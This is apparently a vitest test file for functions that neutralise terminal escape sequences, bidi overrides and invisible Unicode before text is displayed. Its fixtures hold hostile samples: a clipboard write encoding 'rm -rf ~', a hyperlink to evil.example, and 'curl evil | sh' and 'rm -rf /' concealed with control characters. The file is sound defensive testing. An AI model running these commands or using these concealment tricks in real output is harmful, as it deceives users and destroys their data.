import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createInvisibleMarker } from '@x/core';
import { neutralizeForTerminal, sanitizeLine, sanitizeText } from './sanitize.js';

const markByCore = createInvisibleMarker();

const ESC = '\x1b';

describe('sanitizeText', () => {
  it.each([
    ['clear screen', `${ESC}[2J${ESC}[H`, '\\x1b[2J\\x1b[H'],
    ['cursor movement', `a${ESC}[5;10Hb${ESC}[2Ac`, 'a\\x1b[5;10Hb\\x1b[2Ac'],
    ['OSC 52 clipboard write', `${ESC}]52;c;cm0gLXJmIH4=\x07`, '\\x1b]52;c;cm0gLXJmIH4=\\x07'],
    ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example${ESC}\\docs${ESC}]8;;${ESC}\\`, '\\x1b]8;;https://evil.example\\x1b\\docs\\x1b]8;;\\x1b\\'],
    ['window title (OSC 0)', `${ESC}]0;pwned\x07`, '\\x1b]0;pwned\\x07'],
    ['window title (OSC 2)', `${ESC}]2;pwned${ESC}\\`, '\\x1b]2;pwned\\x1b\\'],
    ['C1 CSI', '\x9b2J', '\\x9b2J'],
    ['C1 OSC and ST', '\x9d0;title\x9c', '\\x9d0;title\\x9c'],
    ['every C1 control', '\x80\x85\x9f', '\\x80\\x85\\x9f'],
    ['bare CR overwriting a line', 'rm -rf /\rls', 'rm -rf /\\x0dls'],
    ['CR at the end of a chunk', 'done\r', 'done\\x0d'],
    ['right-to-left override', 'txt.\u202Eexe', 'txt.\\u202eexe'],
    ['bidi embeddings', '\u202A\u202B\u202C\u202D', '\\u202a\\u202b\\u202c\\u202d'],
    ['bidi isolates', '\u2066a\u2067b\u2068c\u2069', '\\u2066a\\u2067b\\u2068c\\u2069'],
    ['bidi marks', '\u200E\u200F\u061C', '\\u200e\\u200f\\u061c'],
    ['bell, backspace, NUL, DEL', '\x07\b\x00\x7f', '\\x07\\x08\\x00\\x7f'],
    ['vertical tab and form feed', '\x0b\x0c', '\\x0b\\x0c'],
    ['zero-width space, word joiner and BOM', 'r\u200bm \u2060\ufeff', 'r\\u200bm \\u2060\\ufeff'],
    ['a joiner inside an ASCII word', 'r\u200dm -\u200crf', 'r\\u200dm -\\u200crf'],
    ['line and paragraph separators', 'a\u2028b\u2029', 'a\\u2028b\\u2029'],
    ['a DCS string', `${ESC}P1$r0m${ESC}\\`, '\\x1bP1$r0m\\x1b\\'],
    ['a C1 OSC hiding the rest of a command', 'npm test\x9d; curl evil | sh\x07', 'npm test\\x9d; curl evil | sh\\x07'],
  ])('neutralises %s', (_name, input, expected) => {
    expect(sanitizeText(input)).toBe(expected);
  });

  it.each([
    ['ASCII', 'Hello, world!'],
    ['newlines and tabs', 'a\n\tb\n\n'],
    ['CRLF line ends', 'one\r\ntwo\r\n'],
    ['accents, CJK and emoji', 'café 日本語 👩‍👩‍👧 ✓'],
    ['joiners inside emoji and Persian words, combining marks', 'e\u0301 \ud83d\udc69\u200d\ud83d\udc67 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'],
    ['backslashes', 'C:\\path\\x1b'],
  ])('leaves %s unchanged', (_name, input) => {
    expect(sanitizeText(input)).toBe(input);
  });
});

describe('sanitizeLine', () => {
  it.each([
    ['newline', 'a\nb', 'a\\x0ab'],
    ['tab', 'a\tb', 'a\\x09b'],
    ['CRLF', 'a\r\nb', 'a\\x0d\\x0ab'],
    ['escape sequence', `${ESC}[31mred`, '\\x1b[31mred'],
    ['bidi override', 'a\u202Eb', 'a\\u202eb'],
  ])('makes %s visible', (_name, input, expected) => {
    expect(sanitizeLine(input)).toBe(expected);
  });

  it('leaves an ordinary line unchanged', () => {
    expect(sanitizeLine('src/日本.ts 👍')).toBe('src/日本.ts 👍');
  });
});

describe('neutralizeForTerminal', () => {
  it('is the line layout by default and the text layout on request', () => {
    expect(neutralizeForTerminal('a\nb\x1b[2J')).toBe('a\\x0ab\\x1b[2J');
    expect(neutralizeForTerminal('a\nb\x1b[2J', 'text')).toBe('a\nb\\x1b[2J');
  });

  it('removes nothing: every input character is still there, visible (property)', () => {
    const decode = (text: string) =>
      text.replace(/\\x([0-9a-f]{2})|\\u([0-9a-f]{4})|\\u\{([0-9a-f]+)\}/g, (_m, x?: string, u?: string, astral?: string) => String.fromCodePoint(parseInt(x ?? u ?? astral ?? '', 16)));
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const out = neutralizeForTerminal(text);
        expect(out).not.toMatch(/[\x00-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]|\p{Cf}/u);
        // Undoing the notation gives the input back.
        expect(decode(out)).toBe(decode(text));
      }),
      { seed: 14 },
    );
  });

  it('marks what the shared marker marks, and the layout characters as each layout says (property)', () => {
    // The reference: the text cut at TAB, LF and CR (ASCII, so they end every
    // context the rules look at), each piece as @x/core's marker writes it
    // (its own test holds it to Unicode's properties code point by code point).
    const layoutPieces: Record<'text' | 'line', Record<string, string>> = {
      text: { '\r\n': '\r\n', '\r': '\\x0d', '\t': '\t', '\n': '\n' },
      line: { '\r\n': '\\x0d\\x0a', '\r': '\\x0d', '\t': '\\x09', '\n': '\\x0a' },
    };
    const reference = (text: string, layout: 'text' | 'line') =>
      text
        .split(/(\r\n|[\t\n\r])/)
        .map((piece) => layoutPieces[layout][piece] ?? markByCore(piece))
        .join('');
    const edges = [
      ...'\x00\x08\t\n\x0b\x0c\r\x0e\x1f a~\x7f\x80\x9f\xa0é\u061b\u061c\u061d\u200a\u200b\u200c\u200d\u200e\u200f\u2010\u2027\u2028\u202e\u202f\u205f\u2060\u2064\u2065\u2066\u2069\u206a\ufefe\ufeff日\u00ad\u3164\ufe0f\u0301',
      '\u{e0041}',
      '\u0301\u0301\u0301\u0301\u0301',
      '\u{1f469}',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...edges), { maxLength: 12 }), fc.constantFrom('text' as const, 'line' as const), (chars, layout) => {
        const text = chars.join('');
        expect(neutralizeForTerminal(text, layout)).toBe(reference(text, layout));
      }),
      { seed: 20, numRuns: 20_000 },
    );
  });

  it.each([
    ['tag characters spelling a hidden command', 'ls\u{e0020}\u{e0072}\u{e006d}', 'ls\\u{e0020}\\u{e0072}\\u{e006d}'],
    ['Hangul fillers as a blank name', '\u3164\u115f\u1160\uffa0', '\\u3164\\u115f\\u1160\\uffa0'],
    ['a soft hyphen and a Mongolian vowel separator in a command', 'r\u00adm -\u180erf', 'r\\xadm -\\u180erf'],
    ['interlinear annotation', '\ufff9a\ufffab\ufffb', '\\ufff9a\\ufffab\\ufffb'],
    ['a run of variation selectors hiding bytes after an emoji', '\u{1f600}\ufe0f\ufe01\ufe02', '\u{1f600}\ufe0f\\ufe01\\ufe02'],
    ['Zalgo text', `o${'\u0336'.repeat(10)}k`, `o${'\u0336'.repeat(8)}\\u0336\\u0336k`],
  ])('marks %s', (_name, input, expected) => {
    expect(sanitizeText(input)).toBe(expected);
    expect(sanitizeLine(input)).toBe(expected);
  });
});
